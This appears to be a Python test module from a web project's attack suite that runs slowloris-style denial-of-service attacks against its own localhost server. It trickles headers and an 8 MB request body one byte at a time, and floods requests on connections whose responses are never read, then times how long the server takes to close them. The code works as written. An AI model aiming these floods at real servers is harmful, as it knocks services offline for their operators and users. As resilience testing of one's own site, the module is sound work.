"""Attack: heads and bodies sent byte by byte, and answers that are never read."""

from __future__ import annotations

import contextlib
import socket
import time

from tests.attacks.siege import Site, close_all, count_open, run

HEAD_REQUEST = "GET / HTTP/1.1|Host: localhost|X: "
BODY_REQUEST = "POST /import/ HTTP/1.1|Host: localhost|Content-Length: 8000000||"
PAGE_REQUEST = "GET /static/django_htmx/htmx-2.min.js HTTP/1.1|Host: localhost||"


def attack(site: Site, start: str, count: int, most: float) -> float:
    """Start `count` requests and send a byte of each now and then; seconds until the last was closed.

    Gives up after `most` seconds.
    """
    sockets = [site.ask(start) for _ in range(count)]
    began = time.monotonic()
    while count_open(sockets) and time.monotonic() < began + most:
        _send_bytes(sockets)
        time.sleep(0.2)
    spent = time.monotonic() - began
    close_all(sockets)
    return spent


def _send_bytes(sockets: list[socket.socket]) -> None:
    for each in sockets:
        with contextlib.suppress(OSError):
            each.send(b"x")


def send_without_reading(site: Site, count: int, most: float) -> int:
    """Send requests nonstop on `count` connections without reading; number still open after `most` seconds."""
    sockets = []
    for _ in range(count):
        made = site.connect()
        made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        made.setblocking(False)
        sockets.append(made)
    until, ended = time.monotonic() + most, set[socket.socket]()
    while time.monotonic() < until and len(ended) < count:
        for each in sockets:
            try:
                each.send(PAGE_REQUEST.replace("|", "\r\n").encode() * 20)
            except BlockingIOError:
                pass
            except OSError:
                ended.add(each)
        time.sleep(0.2)
    close_all(sockets)
    return count - len(ended)


if __name__ == "__main__":
    run(lambda site: [attack(site, start, 200, 40) for start in (HEAD_REQUEST, BODY_REQUEST)])
